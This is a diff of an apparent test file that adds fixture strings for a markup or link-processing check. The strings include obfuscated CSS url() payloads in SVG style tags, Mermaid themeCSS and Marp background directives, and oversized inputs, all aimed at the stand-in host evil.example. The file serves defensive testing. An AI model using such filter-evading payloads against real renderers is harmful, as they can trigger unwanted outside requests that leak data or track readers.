@@ -148,6 +148,10 @@ STAYS = {
     "entities in a style of SVG": "<style>a{{b:url&#40;\\2f\\2f evil.example/\\20 {})",
     "a bracket in a style of SVG": "<style>a<b{{c:url(\\2f\\2f evil.example/\\20 {})",
     "what ends no style in parentheses": "<style>(</styles>url(\\2f\\2f evil.example/\\20 {})",
+    "a theme of Mermaid": (
+        '%%{{init: {{"themeCSS": "a{{b:u\\\\72l(//evil.example/?\\\\20 {})}}"}}}}%%'
+    ),
+    "a background of Marp": "<!-- backgroundImage: url( https://evil.example/\\)\\20 {}) -->",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
@@ -202,6 +206,8 @@ COMES = {
     "after links in brackets": "[[https://example.com/a b]] {} [[https://example.com][to {}]]",
     "after links in braces": "{{{{a}}}} {}, {{{{https://example.com/a b}}}} {}",
     "after BBCode": "[url=https://example.com]a[/url] {} [img]//example.com/a[/img] {}",
+    "after an address in parentheses": "url(https://example.com/a_b), f(//a.example, b) {}",
+    "in parentheses after an address": "see the site (https://example.com or {})",
     "after a number in brackets": "[1] https://example.com/a {}",
     "a paragraph after a directive": ".. image:: a.png\n   :alt: b\n\n{}",
     "in another directive": ".. note:: {}",
